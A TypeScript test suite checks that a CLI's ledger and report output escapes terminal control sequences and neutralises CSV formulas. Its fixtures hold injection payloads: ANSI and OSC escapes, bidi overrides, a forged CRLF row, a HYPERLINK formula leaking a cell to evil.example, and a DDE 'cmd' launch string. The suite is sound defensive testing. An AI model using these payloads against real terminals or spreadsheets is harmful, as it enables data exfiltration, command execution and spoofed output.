/**
 * Terminal and CSV injection through the ledger (issue 35, finding 12): strings clients choose (the
 * model, a tenant from a trusted header) reach `sluice ledger query` and `sluice report`. In a table
 * no control character, C1 control, bidi control or line separator reaches the terminal (each is a
 * visible escape, so a model cannot forge a row); JSON carries the values unchanged with those
 * characters as \u escapes; CSV neutralises formulas as OWASP recommends (a leading `'`, quoted).
 * Real DuckDB files and the real CLI, and once end to end through a gateway.
 */
import assert from "node:assert/strict";
import { connect } from "node:net";
import { join } from "node:path";
import { describe, test } from "node:test";
import { pino } from "pino";
import { DuckDbSink } from "../../src/ledger/duckdb.js";
import { formatResult, terminalSafe } from "../../src/ledger/format.js";
import { REPORT_NOTES } from "../../src/ledger/report.js";
import { LedgerWriter } from "../../src/ledger/writer.js";
import { type Run, runCli } from "../helpers/cli-process.js";
import { smallSchedulerYaml, startFleet } from "../helpers/harness.js";
import { outcome, tempDir } from "./services.js";

const sluice = (...args: string[]): Promise<Run> => runCli(args);
const quiet = pino({ level: "silent" });

/** What must never reach a terminal raw: C0 but LF, DEL, C1, bidi controls, line/paragraph separators. */
const RAW_UNSAFE =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it finds
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

const FORGED = "x\r\nauth:acme  interactive  99999";
const MODELS = [
  FORGED,
  "clear\u001b[2J\u001b[H",
  "link\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007",
  "csi\u009b31mred",
  "bidi\u202eexe.txt\u2066x\u2069",
  "bell\u0007del\u007fsep\u2028end",
  'back\\slash \\x1b "quoted"',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  "\tTAB",
  "\rCR",
  "\uff1d1+1",
  "plain-model",
];
const TENANTS = ["auth:acme", "header:ops\u009b2J", "header:=1+1", "header:tab\there"];

async function hostileLedger(path: string): Promise<void> {
  const w = new LedgerWriter(new DuckDbSink(path), { replica: "r1" }, quiet);
  w.start();
  const now = Date.now();
  MODELS.forEach((model, i) => {
    w.record(outcome({ tsMs: now - 60_000 + i, model, tenantId: "auth:acme", effectiveClass: "default" }));
  });
  for (const tenantId of TENANTS)
    w.record(outcome({ tsMs: now, tenantId, model: "m", effectiveClass: "bulk" }));
  await w.close();
}

/** RFC 4180 fields of a CSV text (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === "") quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
    } else field += c;
  }
  return rows;
}

const FORMULA = /^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/;

describe("ledger output: no terminal or CSV injection", () => {
  test("ledger query as a table: every hostile model a visible escape, one line per row, no forged row", async (t) => {
    const path = join(await tempDir(t), "ledger.duckdb");
    await hostileLedger(path);
    const run = await sluice(
      "ledger",
      "query",
      "SELECT tenant_id, model FROM usage WHERE effective_class = 'default' ORDER BY ts_ms, request_id",
      "--ledger",
      `duckdb:${path}`,
    );
    assert.equal(run.code, 0, run.stderr);
    assert.ok(!RAW_UNSAFE.test(run.stdout), `raw control characters in:\n${JSON.stringify(run.stdout)}`);
    const lines = run.stdout.split("\n");
    // Head, rule, one line per row, the count, and the final newline.
    assert.equal(lines.length, 2 + MODELS.length + 2, run.stdout);
    assert.equal(lines.at(-2), `(${MODELS.length} rows)`);
    assert.ok(!lines.some((l) => l.startsWith("auth:acme  interactive")), "no forged row");
    for (const model of MODELS) {
      assert.ok(
        lines.some((l) => l.includes(terminalSafe(model))),
        `the model ${JSON.stringify(model)} shown escaped`,
      );
    }
    assert.ok(run.stdout.includes("x\\r\\nauth:acme  interactive  99999"));
    assert.ok(run.stdout.includes("clear\\x1b[2J\\x1b[H"));
    assert.ok(run.stdout.includes("csi\\u009b31mred"));
    assert.ok(run.stdout.includes("bidi\\u202eexe.txt\\u2066x\\u2069"));
    assert.ok(run.stdout.includes("bell\\x07del\\x7fsep\\u2028end"));
    assert.ok(run.stdout.includes('back\\\\slash \\\\x1b "quoted"'), "a backslash is escaped: no ambiguity");
  });

  test("ledger query as JSON: the exact values back, no raw C1 or bidi bytes", async (t) => {
    const path = join(await tempDir(t), "ledger.duckdb");
    await hostileLedger(path);
    const run = await sluice(
      "ledger",
      "query",
      "SELECT model FROM usage WHERE effective_class = 'default' ORDER BY ts_ms, request_id",
      "--ledger",
      `duckdb:${path}`,
      "--format",
      "json",
    );
    assert.equal(run.code, 0, run.stderr);
    assert.ok(!RAW_UNSAFE.test(run.stdout), JSON.stringify(run.stdout));
    assert.deepEqual(
      (JSON.parse(run.stdout) as Array<{ model: string }>).map((r) => r.model),
      MODELS,
    );
  });

  test("ledger query as CSV: formula cells get a leading quote and are quoted; the rest round-trips", async (t) => {
    const path = join(await tempDir(t), "ledger.duckdb");
    await hostileLedger(path);
    const run = await sluice(
      "ledger",
      "query",
      "SELECT model, input_tokens FROM usage WHERE effective_class = 'default' ORDER BY ts_ms, request_id",
      "--ledger",
      `duckdb:${path}`,
      "--format",
      "csv",
    );
    assert.equal(run.code, 0, run.stderr);
    assert.ok(run.stdout.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",3`));
    assert.ok(run.stdout.includes(`"'-2+3",3`));
    assert.ok(run.stdout.includes(`"'@SUM(1,2)",3`));
    const rows = parseCsv(run.stdout);
    assert.deepEqual(rows[0], ["model", "input_tokens"]);
    assert.equal(rows.length, MODELS.length + 1);
    MODELS.forEach((model, i) => {
      const [cell, tokens] = rows[i + 1]!;
      assert.equal(cell, FORMULA.test(model) ? `'${model}` : model, `row ${i + 1}`);
      assert.equal(tokens, "3", "a number is a number: never prefixed");
      assert.ok(!FORMULA.test(cell!), `no cell starts a formula: ${JSON.stringify(cell)}`);
    });
    // A negative number stays a number.
    assert.equal(formatResult({ columns: ["n", "s"], rows: [[-5, "-5"]] }, "csv"), `n,s\n-5,"'-5"\n`);
  });

  test("on a terminal, CSV escapes control characters too", () => {
    const out = formatResult({ columns: ["model"], rows: [["a\u001b[2Jb"], ["=1+1\u009b"]] }, "csv", {
      terminal: true,
    });
    assert.ok(!RAW_UNSAFE.test(out));
    assert.equal(out, `model\na\\x1b[2Jb\n"'=1+1\\u009b"\n`);
  });

  test("report: table, CSV and JSON with hostile tenants", async (t) => {
    const path = join(await tempDir(t), "ledger.duckdb");
    await hostileLedger(path);
    const [table, csv, json] = await Promise.all([
      sluice("report", "--since", "1h", "--ledger", `duckdb:${path}`),
      sluice("report", "--since", "1h", "--ledger", `duckdb:${path}`, "--format", "csv"),
      sluice("report", "--since", "1h", "--ledger", `duckdb:${path}`, "--format", "json"),
    ]);
    for (const run of [table, csv, json]) assert.equal(run.code, 0, run.stderr);
    // CSV to a pipe is data, kept as stored (formulas aside); a table and JSON are safe anywhere.
    for (const run of [table, json]) assert.ok(!RAW_UNSAFE.test(run.stdout), JSON.stringify(run.stdout));
    assert.ok(table.stdout.includes("header:ops\\u009b2J"));
    assert.ok(table.stdout.includes("header:tab\\there"));
    // The window line, head and rule, one line per tenant and class (acme's two classes and three
    // header tenants), and the count; then the notes on what the columns count.
    const count = "(5 rows)\n";
    const beforeNotes = table.stdout.slice(0, table.stdout.indexOf(count) + count.length);
    assert.equal(beforeNotes.trimEnd().split("\n").length, 3 + 5 + 1, table.stdout);
    assert.equal(table.stdout.slice(beforeNotes.length), `${REPORT_NOTES.join("\n")}\n`);
    const tenants = parseCsv(csv.stdout)
      .slice(1)
      .map((r) => r[0]);
    assert.ok(tenants.includes("header:=1+1"), "no formula there: it does not start the cell");
    assert.ok(tenants.includes("header:ops\u009b2J"), "CSV to a pipe keeps the value");
    const rows = (JSON.parse(json.stdout) as { rows: Array<{ tenant_id: string }> }).rows;
    assert.deepEqual([...new Set(rows.map((r) => r.tenant_id))].sort(), [...TENANTS].sort());
  });

  test("an error quoting a stored string reaches stderr escaped", async (t) => {
    const path = join(await tempDir(t), "ledger.duckdb");
    await hostileLedger(path);
    const run = await sluice(
      "ledger",
      "query",
      "SELECT CAST(model AS INTEGER) FROM usage WHERE model LIKE 'clear%'",
      "--ledger",
      `duckdb:${path}`,
    );
    assert.equal(run.code, 1);
    assert.match(run.stderr, /clear\\x1b\[2J/);
    assert.ok(!RAW_UNSAFE.test(run.stderr), JSON.stringify(run.stderr));
  });

  test("end to end: a client's model and a trusted tenant header through a gateway, then the CLI", async (t) => {
    const path = join(await tempDir(t), "ledger.duckdb");
    const fleet = await startFleet(t, {
      // The worker serves the hostile names too, so the requests run.
      workers: [{ servedModels: ["mock-llm", FORGED, "clear\u001b[2J"] }],
      schedulerYaml: smallSchedulerYaml(),
      gateway: {
        trustedTenantHeader: "x-tenant",
        ledger: { target: { kind: "duckdb", path }, retentionDays: 30 },
      },
    });
    const port = Number(new URL(fleet.url).port);
    // Raw bytes: a C1 CSI (0x9b) in the tenant header, ESC and CR LF in the model.
    const send = (tenant: Buffer, model: string) =>
      new Promise<string>((resolve) => {
        const body = Buffer.from(
          JSON.stringify({ model, messages: [{ role: "user", content: "hi" }], max_tokens: 2 }),
        );
        const head = Buffer.concat([
          Buffer.from("POST /v1/chat/completions HTTP/1.1\r\nHost: gw\r\nx-tenant: "),
          tenant,
          Buffer.from(
            `\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n`,
          ),
        ]);
        const socket = connect(port, "127.0.0.1");
        let got = "";
        socket.on("data", (d: Buffer) => {
          got += d.toString("latin1");
        });
        socket.on("close", () => resolve(got));
        socket.write(Buffer.concat([head, body]));
      });
    const a = await send(Buffer.from("ops"), FORGED);
    const b = await send(Buffer.from([0x6f, 0x70, 0x73, 0x9b, 0x32, 0x4a]), "clear\u001b[2J");
    // Served by the worker's model list or refused with 404: either way the request has its row.
    assert.match(a, /^HTTP\/1\.1 (200|404)/);
    assert.match(b, /^HTTP\/1\.1 (200|404)/);
    await fleet.gateway.close();
    const [query, report] = await Promise.all([
      sluice(
        "ledger",
        "query",
        "SELECT tenant_id, model FROM usage ORDER BY ts_ms",
        "--ledger",
        `duckdb:${path}`,
      ),
      sluice("report", "--since", "1h", "--ledger", `duckdb:${path}`),
    ]);
    for (const run of [query, report]) {
      assert.equal(run.code, 0, run.stderr);
      assert.ok(!RAW_UNSAFE.test(run.stdout), JSON.stringify(run.stdout));
      assert.ok(!run.stdout.split("\n").some((l) => l.startsWith("auth:acme")), "no forged row");
    }
    assert.match(query.stdout, /^header:ops +x\\r\\nauth:acme {2}interactive {2}99999$/m);
    assert.match(query.stdout, /^header:ops\\u009b2J +clear\\x1b\[2J$/m);
    assert.ok(report.stdout.includes("header:ops\\u009b2J"));
  });
});
